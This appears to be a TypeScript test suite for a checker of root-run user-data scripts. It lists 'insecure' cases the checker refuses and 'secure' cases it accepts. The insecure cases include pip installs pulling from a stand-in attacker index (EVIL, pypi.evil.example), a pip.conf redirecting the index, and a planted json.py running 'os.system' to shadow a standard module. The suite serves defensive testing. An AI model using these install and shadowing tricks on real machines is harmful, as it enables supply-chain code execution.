    // ===== Round 82 fix neighbours (PIP-PLAIN-OPTIONS, PIP-ISOLATED-HOME) =====
    // pip(1) "--timeout <sec>" keeps trust, but "--extra-index-url" adds another index (pip docs "pip install": pip
    // picks the best candidate across all indexes): a trust-keeping option beside it keeps nothing.
    dev(
        "pip3 install --timeout 60 --extra-index-url EVIL tenacity; import",
        thenImport("dev-py82-timeout-extra-index-fix82-rt82p", [
            `pip3 install --timeout 60 --extra-index-url ${EVIL} tenacity`,
        ]),
        REFUSED,
    ),
    // pip(1) "--progress-bar" is display only; "--trusted-host" and another -i choose the source (pip docs "pip
    // install" Package Index Options).
    dev(
        "pip3 install --progress-bar=off --trusted-host pypi.evil.example -i EVIL tenacity; import",
        thenImport("dev-py82-progress-bar-trusted-host-fix82-rt82p", [
            `pip3 install --progress-bar=off --trusted-host pypi.evil.example -i ${EVIL} tenacity`,
        ]),
        REFUSED,
    ),
    // pip docs "Configuration", User: "$HOME/.config/pip/pip.conf": the second run has no --isolated (pip(1) General
    // Options), so it reads the moved HOME's pip.conf naming another index.
    dev(
        "HOME=/var/lib/ops pip.conf with another index; pip3 install --isolated tenacity, then without --isolated",
        thenImport("dev-py82-home-moved-second-run-fix82-rt82p", [
            ...heredocFile("/var/lib/ops/.config/pip/pip.conf", ["[global]", `index-url = ${EVIL}`]),
            "HOME=/var/lib/ops pip3 install --isolated tenacity",
            "HOME=/var/lib/ops pip3 install --upgrade tenacity",
        ]),
        REFUSED,
    ),
    // ===== Round 83 fix (data-json-load) neighbours, insecure (-fix83) =====
    // Python docs "The initialization of the sys.path module search path": -c puts the current directory first; a
    // program writing json.py there shadows the standard module (its write named, still changed).
    dev(
        "tune.py writes /var/lib/ops/json.py; python3 -c 'import json' there (-fix83)",
        tune("dev-py82-data-json-shadow-fix83", writes("/var/lib/ops/json.py", "import os\nos.system('id')\n"), [
            `python3 -c 'import json; print(json.dumps({}))'`,
        ]),
        REFUSED,
    ),
    // Python docs "subprocess": a command the program runs (tar(1) -x into the working directory) may write any name
    // there: the working directory stays changed (pythonWritesOnlyWhatItNames: no command run).
    dev(
        "tune.py runs tar -xf in its cwd; python3 -c 'import json' there (-fix83)",
        tune(
            "dev-py82-data-json-subprocess-fix83",
            ["import subprocess", 'subprocess.run(["tar", "-xzf", "/var/cache/ops/bundle.tgz"], check=True)'],
            [`python3 -c 'import json; print(json.dumps({}))'`],
        ),
        REFUSED,
    ),
];

const secure: NodeCase[] = [
    // bash(1) "export" of `$(cat FILE)` where FILE is the user data's own text (cat(1) prints it): the names are read
    // (RootReads.unknownNamedAssignments refuses only output it cannot read) (-fix82).
    dev(
        "user data writes /etc/ops/env (OPS_MODE=fast); export $(cat /etc/ops/env) (-fix82)",
        sh("dev-py82-export-known-env-fix82", [
            "mkdir -p /etc/ops",
            ...heredocFile("/etc/ops/env", ["OPS_MODE=fast"]),
            "export $(cat /etc/ops/env)",
            'echo "$OPS_MODE"',
        ]),
    ),
    // bash(1) "export name=value": one named variable from a program's file; not a loader or search-list name (-fix82).
    dev(
        'tune.py writes /var/lib/ops/id; export OPS_ID="$(cat /var/lib/ops/id)" (-fix82)',
        tune("dev-py82-export-named-value-fix82", writes("/var/lib/ops/id", "node-1"), [
            'export OPS_ID="$(cat /var/lib/ops/id)"',
            'logger "ops id $OPS_ID"',
        ]),
    ),
    // execve(2) of a script user data itself wrote and made executable: its text is read (-fix82).
    dev(
        "user data writes and chmods /usr/local/bin/ops-tune.sh; runs it by path (-fix82)",
        sh("dev-py82-exec-own-script-fix82", [
            ...heredocFile("/usr/local/bin/ops-tune.sh", ["#!/bin/sh", "echo tuned > /var/log/ops/tune.log"]),
            "chmod 0755 /usr/local/bin/ops-tune.sh",
            "/usr/local/bin/ops-tune.sh",
        ]),
    ),
    // ===== round 82 fix neighbours (secure) =====
    // /etc/<name> named after the program's own directory (ops) or its stem (tune): its data (programOwnNames).
    dev(
        "tune.py writes /etc/tune/settings.json",
        tune("dev-py82-etc-stem-json-fix82", writes("/etc/tune/settings.json", '{"level": 1}')),
    ),
    dev("tune.py writes /run/ops/state.json", tune("dev-py82-run-own-json-fix82", writes("/run/ops/state.json", "{}"))),
    // A program's file read (cat, sha256sum, cp into another data directory): unknown content, nothing runs it.
    dev(
        "tune.py writes /var/lib/ops/report.txt; cp it to /var/log/ops/",
        tune("dev-py82-data-copy-log-fix82", writes("/var/lib/ops/report.txt", "ok"), [
            "cp /var/lib/ops/report.txt /var/log/ops/report.txt",
        ]),
    ),
    // git-config(1) ENVIRONMENT GIT_CONFIG_GLOBAL names a file user data wrote itself, not the program's.
    dev(
        "tune.py writes /var/lib/ops/state.json; GIT_CONFIG_GLOBAL=/etc/ops.gitconfig git --version",
        tune("dev-py82-git-config-other-fix82", writes("/var/lib/ops/state.json", '{"ok": 1}'), [
            "GIT_CONFIG_GLOBAL=/etc/ops.gitconfig git --version",
        ]),
    ),
    // FHS 3.0 /var/lib/<name>: "State information" of an application; nothing runs or loads it.
    dev(
        "tune.py writes /var/lib/ops/state.json",
        tune("dev-py82-state-json-rt82p", writes("/var/lib/ops/state.json", '{"ok": 1}')),
    ),
    // /etc/<app>/ its own configuration, read only by the app itself (nothing here reads it).
    dev(
        "tune.py writes /etc/ops/settings.json",
        tune("dev-py82-etc-app-json-rt82p", writes("/etc/ops/settings.json", '{"level": 1}')),
    ),
    // A dotfile under a directory that is no command's HOME (pip reads $HOME = /root only: pip docs "Configuration").
    dev(
        "tune.py writes /var/lib/ops/.config/pip/pip.conf (no command has that HOME)",
        tune("dev-py82-dotdir-not-home-rt82p", writes("/var/lib/ops/.config/pip/pip.conf", "[global]\ntimeout = 60\n")),
    ),
    // A program's data then read by the shell as data only (cat to the log): nothing runs it.
    dev(
        "tune.py writes /var/lib/ops/report.txt; cat it",
        tune("dev-py82-data-cat-rt82p", writes("/var/lib/ops/report.txt", "ok"), ["cat /var/lib/ops/report.txt"]),
    ),
    // Loopback servers: Python docs "socket" AF_INET 127.0.0.1 is the node's loopback only (pods have their own netns).
    dev(
        "asyncio.start_server(handle, '127.0.0.1', 9000) answering a constant",
        tune("dev-py82-asyncio-loopback-rt82p", [
            "import asyncio",
            "async def handle(r, w):",
            "    w.write(b'ok\\n')",
            "    await w.drain()",
            "    w.close()",
            "async def main():",
            "    s = await asyncio.start_server(handle, '127.0.0.1', 9000)",
            "    await s.serve_forever()",
            "asyncio.run(main())",
        ]),
    ),
    dev(
        "socket.create_server(('127.0.0.1', 9000)) constant answer",
        tune("dev-py82-create-server-loopback-rt82p", [
            "import socket",
            "srv = socket.create_server(('127.0.0.1', 9000))",
            "while True:",
            "    c, _ = srv.accept()",
            "    c.sendall(b'ok')",
            "    c.close()",
        ]),
    ),
    // A health endpoint on every interface that answers a literal: a pod learns "ok" and nothing else.
    dev(
        "http.server on ('', 8080) whose handler only answers b'ok'",
        tune("dev-py82-health-constant-rt82p", [
            "from http.server import BaseHTTPRequestHandler, HTTPServer",
            "class H(BaseHTTPRequestHandler):",
            "    def do_GET(self):",
            "        self.send_response(200)",
            "        self.end_headers()",
            "        self.wfile.write(b'ok')",
            "HTTPServer(('', 8080), H).serve_forever()",
        ]),
    ),
    // pip docs "pip install" general options: --isolated "ignoring environment variables and user configuration":
    // a moved HOME's pip.conf is not read; nothing wrote /etc/pip.conf or /etc/xdg/pip.
    // Was a MISS (fixed in round 82): secure refused: pythonPipInstalled withdraws trust for any moved HOME (movedHomes) although pip's
    // --isolated (pip docs general options: "ignoring environment variables and user configuration") reads no file
    // under HOME. Fix (class): a moved HOME withdraws trust only from pip runs that read user configuration.
    dev(
        "HOME=/var/lib/ops pip3 install --isolated tenacity; import",
        thenImport("dev-py82-home-moved-isolated-rt82p", ["HOME=/var/lib/ops pip3 install --isolated tenacity"]),
    ),
    // optparse (pip's option parser): `--opt VALUE` is `--opt=VALUE`; the same option PIP_PLAIN_OPTIONS allows.
    // Was a MISS (fixed in round 82): secure refused: pip trust (pythonCode.ts scriptPipModules) keeps only PIP_PLAIN_OPTIONS and pipOptions.ts
    // PIP_TRUST_KEEPING_VALUE_OPTIONS; this option (or its `--opt VALUE` spelling) leaves the index and the install
    // scheme what they were, so run.py's import of tenacity is refused as unread code. Fix (class): an allowlist by
    // effect covering both optparse spellings (`--opt=V`, `--opt V`) of the options that change no source or target
    // (progress, verbosity, timeouts/retries, --root-user-action, --prefer-binary, --pre, --no-compile).
    dev(
        "pip3 install --root-user-action ignore tenacity; import",
        thenImport("dev-py82-root-user-action-space-rt82p", ["pip3 install --root-user-action ignore tenacity"]),
    ),
    // Was a MISS (fixed in round 82): secure refused: pip trust (pythonCode.ts scriptPipModules) keeps only PIP_PLAIN_OPTIONS and pipOptions.ts
    // PIP_TRUST_KEEPING_VALUE_OPTIONS; this option (or its `--opt VALUE` spelling) leaves the index and the install
    // scheme what they were, so run.py's import of tenacity is refused as unread code. Fix (class): an allowlist by
    // effect covering both optparse spellings (`--opt=V`, `--opt V`) of the options that change no source or target
    // (progress, verbosity, timeouts/retries, --root-user-action, --prefer-binary, --pre, --no-compile).
    dev(
        "pip3 install --progress-bar off tenacity; import",
        thenImport("dev-py82-progress-bar-space-rt82p", ["pip3 install --progress-bar off tenacity"]),
    ),
    // pip docs "pip install" --prefer-binary: "Prefer binary packages over source packages" (same index).
    // Was a MISS (fixed in round 82): secure refused: pip trust (pythonCode.ts scriptPipModules) keeps only PIP_PLAIN_OPTIONS and pipOptions.ts
    // PIP_TRUST_KEEPING_VALUE_OPTIONS; this option (or its `--opt VALUE` spelling) leaves the index and the install
    // scheme what they were, so run.py's import of tenacity is refused as unread code. Fix (class): an allowlist by
    // effect covering both optparse spellings (`--opt=V`, `--opt V`) of the options that change no source or target
    // (progress, verbosity, timeouts/retries, --root-user-action, --prefer-binary, --pre, --no-compile).
    dev(
        "pip3 install --prefer-binary tenacity; import",
        thenImport("dev-py82-prefer-binary-rt82p", ["pip3 install --prefer-binary tenacity"]),
    ),
    // pip docs: --timeout <sec>, --retries <n>: network settings, same index.
    // Was a MISS (fixed in round 82): secure refused: pip trust (pythonCode.ts scriptPipModules) keeps only PIP_PLAIN_OPTIONS and pipOptions.ts
    // PIP_TRUST_KEEPING_VALUE_OPTIONS; this option (or its `--opt VALUE` spelling) leaves the index and the install
    // scheme what they were, so run.py's import of tenacity is refused as unread code. Fix (class): an allowlist by
    // effect covering both optparse spellings (`--opt=V`, `--opt V`) of the options that change no source or target
    // (progress, verbosity, timeouts/retries, --root-user-action, --prefer-binary, --pre, --no-compile).
    dev(
        "pip3 install --timeout 60 --retries 5 tenacity; import",
        thenImport("dev-py82-timeout-retries-rt82p", ["pip3 install --timeout 60 --retries 5 tenacity"]),
    ),
    // distutils.spawn of a harmless literal command (sysctl -n read of a value).
    dev(
        "tune.py: distutils.spawn.spawn(['sysctl', '-n', 'vm.max_map_count'])",
        tune("dev-py82-distutils-spawn-sysctl-read-rt82p", [
            "from distutils.spawn import spawn",
            "spawn(['sysctl', '-n', 'vm.max_map_count'])",
        ]),
    ),
    // The baseline: pip's default index, no options (README DECIDED round 69/74: a default-index install is trusted).
    dev("pip3 install tenacity; import", thenImport("dev-py82-pip-plain-baseline-rt82p", ["pip3 install tenacity"])),
    // pip docs "pip install" --no-compile: "Do not compile Python source files to bytecode"; --pre: pre-releases, same
    // index.
    // Was a MISS (fixed in round 82): secure refused: pip trust (pythonCode.ts scriptPipModules) keeps only PIP_PLAIN_OPTIONS and pipOptions.ts
    // PIP_TRUST_KEEPING_VALUE_OPTIONS; this option (or its `--opt VALUE` spelling) leaves the index and the install
    // scheme what they were, so run.py's import of tenacity is refused as unread code. Fix (class): an allowlist by
    // effect covering both optparse spellings (`--opt=V`, `--opt V`) of the options that change no source or target
    // (progress, verbosity, timeouts/retries, --root-user-action, --prefer-binary, --pre, --no-compile).
    dev(
        "pip3 install --no-compile tenacity; import",
        thenImport("dev-py82-no-compile-rt82p", ["pip3 install --no-compile tenacity"]),
    ),
    // Was a MISS (fixed in round 82): secure refused: pip trust (pythonCode.ts scriptPipModules) keeps only PIP_PLAIN_OPTIONS and pipOptions.ts
    // PIP_TRUST_KEEPING_VALUE_OPTIONS; this option (or its `--opt VALUE` spelling) leaves the index and the install
    // scheme what they were, so run.py's import of tenacity is refused as unread code. Fix (class): an allowlist by
    // effect covering both optparse spellings (`--opt=V`, `--opt V`) of the options that change no source or target
    // (progress, verbosity, timeouts/retries, --root-user-action, --prefer-binary, --pre, --no-compile).
    dev("pip3 install --pre tenacity; import", thenImport("dev-py82-pre-rt82p", ["pip3 install --pre tenacity"])),
    // Reading the program's JSON as data (json.load runs nothing).
    // Was a MISS (fixed in round 83): secure refused: the -c's cwd is a directory a program wrote (state.json only, no module name);
    // pythonCode.ts's -c/-m shadow check (the import-path directory 'may hold a file user data downloaded or changed')
    // fails closed on any program write there. Fix (class): a program's known literal write paths shadow only the
    // module names they spell (json.py, json/), as round 81 did for copied trees.
    // Still open (round 82): the refusal comes from rootWrites.ts judgeRun making the program's working directory a
    // named tree (view.changed) for any program; the fix needs the read program's write paths (pythonWriteRefusal's
    // targets) recorded as changed files instead of its cwd, the same record PROGRAM-DATA-RUN (fix82-pyA) adds, so it
    // is left to land on that one source rather than a second copy.
    // Round 83: judgeRun (rootWrites.ts) takes a read Python program that writes only what it names
    // (pythonCode.ts pythonWritesOnlyWhatItNames, commandServers.ts pythonProgramOnlyWrites) as changing those paths.
    dev(
        "tune.py writes /var/lib/ops/state.json; python3 -c json.load it",
        tune("dev-py82-data-json-load-rt82p", writes("/var/lib/ops/state.json", '{"ok": 1}'), [
            `python3 -c 'import json; print(json.load(open("/var/lib/ops/state.json")))'`,
        ]),
    ),
    // tar(1) -c archives the data into the log directory: nothing runs it.
    dev(
        "tune.py writes /var/lib/ops/state.json; tar -czf /var/log/ops/state.tgz",
        tune("dev-py82-data-tar-archive-rt82p", writes("/var/lib/ops/state.json", '{"ok": 1}'), [
            "tar -czf /var/log/ops/state.tgz -C /var/lib/ops state.json",
        ]),
    ),
    // The same read from / (no program wrote into the -c's cwd).
    dev(
        "tune.py writes /var/lib/ops/state.json; cd / && python3 -c json.load it",
        tune("dev-py82-data-json-load-root-cwd-rt82p", writes("/var/lib/ops/state.json", '{"ok": 1}'), [
            `cd / && python3 -c 'import json; print(json.load(open("/var/lib/ops/state.json")))'`,
        ]),
    ),
    // FHS 3.0 /run "Run-time variable data": a pid file.
    dev("tune.py writes /run/ops/ops.pid", tune("dev-py82-run-pid-rt82p", writes("/run/ops/ops.pid", "1234"))),
    // sha256sum(1) only reads the program's file.
    dev(
        "tune.py writes /var/cache/ops/blob; sha256sum it",
        tune("dev-py82-data-sha256-rt82p", writes("/var/cache/ops/blob", "x"), ["sha256sum /var/cache/ops/blob"]),
    ),
    // gzip(1) of the program's log in its own log directory.
    dev(
        "tune.py writes /var/log/ops/tune.log; gzip it",
        tune("dev-py82-data-gzip-log-rt82p", writes("/var/log/ops/tune.log", "done"), [
            "gzip -f /var/log/ops/tune.log",
        ]),
    ),
    // pip docs general options: --isolated ignores environment variables and user configuration (narrows only).
    // Was a MISS (fixed in round 82): secure refused: pip trust (pythonCode.ts scriptPipModules) keeps only PIP_PLAIN_OPTIONS and pipOptions.ts
    // PIP_TRUST_KEEPING_VALUE_OPTIONS; this option (or its `--opt VALUE` spelling) leaves the index and the install
    // scheme what they were, so run.py's import of tenacity is refused as unread code. Fix (class): an allowlist by
    // effect covering both optparse spellings (`--opt=V`, `--opt V`) of the options that change no source or target
    // (progress, verbosity, timeouts/retries, --root-user-action, --prefer-binary, --pre, --no-compile).
    dev(
        "pip3 install --isolated tenacity; import",
        thenImport("dev-py82-isolated-plain-rt82p", ["pip3 install --isolated tenacity"]),
    ),
    // ===== Round 82 fix neighbours =====
    // Python docs "optparse" ("--file=outfile" and "--file outfile" are one): the `=` spellings of pip(1)'s
    // --timeout, --retries, --progress-bar (raw) and --root-user-action (warn): display and network waits only.
    dev(
        "pip3 install --timeout=60 --retries=5 --progress-bar=raw --root-user-action=warn tenacity; import",
        thenImport("dev-py82-value-options-equals-fix82-rt82p", [
            "pip3 install --timeout=60 --retries=5 --progress-bar=raw --root-user-action=warn tenacity",
        ]),
    ),
    // pip(1) "Usage: pip <command> [options]", General Options also before the command: --isolated there, with the
    // moved HOME exported for the whole script (the pip run still reads no user configuration).
    dev(
        "export HOME=/var/lib/ops; pip3 --isolated install --pre --prefer-binary tenacity; import",
        thenImport("dev-py82-home-exported-isolated-general-fix82-rt82p", [
            "export HOME=/var/lib/ops",
            "pip3 --isolated install --pre --prefer-binary tenacity",
        ]),
    ),
    // ===== Round 83 fix (data-json-load) neighbours, secure (-fix83) =====
    // A second read program in the same directory reading the first's data (json.load runs nothing).
    dev(
        "tune.py writes state.json; report.py json.load()s it there (-fix83)",
        tune("dev-py82-data-json-second-program-fix83", writes("/var/lib/ops/state.json", '{"ok": 1}'), [
            ...heredocFile("/opt/ops/report.py", ["import json", 'print(json.load(open("/var/lib/ops/state.json")))']),
            "cd /var/lib/ops && python3 /opt/ops/report.py",
        ]),
    ),
];

describeNodeCases("Round 82 red team (python)", insecure, secure);
